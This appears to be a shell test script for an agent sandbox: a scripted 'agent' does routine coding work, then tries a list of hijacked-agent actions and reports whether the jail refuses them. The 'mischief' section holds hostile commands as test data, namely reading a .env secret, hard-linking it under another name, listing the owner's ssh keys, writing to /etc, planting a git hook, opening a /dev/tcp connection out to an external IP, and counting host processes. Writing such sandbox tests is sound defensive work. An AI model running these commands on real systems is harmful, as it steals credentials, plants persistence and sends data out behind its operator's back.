#!/bin/sh
# A scripted agent: does honest work, and tries what a hijacked one would. Run by packaging/try/try.sh inside a jail.
try() { # try WORDS COMMAND...: one line that says what happened
	what=$1; shift
	if out=$("$@" 2>&1); then echo "  done    $what"; else echo "  refused $what: $(printf %s "$out" | head -n 1)"; fi
}
work() { what=$1; shift; if out=$("$@" 2>&1); then echo "  ok      $what"; else echo "  BROKEN  $what: $out"; broken=1; fi; }

broken=0
echo "work:"
work "fix the typo"            sed -i 's/helo/hello/' hello.c
work "build it"                make -s
work "run what was built"      ./hello
work "git status"              git status --short
work "commit the fix"          git commit -qam 'hello: fix the greeting'
work "scratch file in /tmp"    sh -c 'echo x > /tmp/scratch && rm /tmp/scratch'
echo "mischief:"
try "read the secret in .env"             cat .env
try "copy it by a new name"               ln .env notes.txt
try "read the owner's ssh keys"           ls "$HOME/.ssh"
try "write to /etc"                       sh -c 'echo x > /etc/agentos-was-here'
try "plant a git hook"                    sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
try "phone home"                          timeout 5 bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'
try "see the processes of the host"       sh -c 'n=$(ls -d /proc/[0-9]* | wc -l); echo "only $n are there, all of this jail"; test "$n" -gt 20'
try "mount something"                     mount -t tmpfs none /mnt
exit $broken
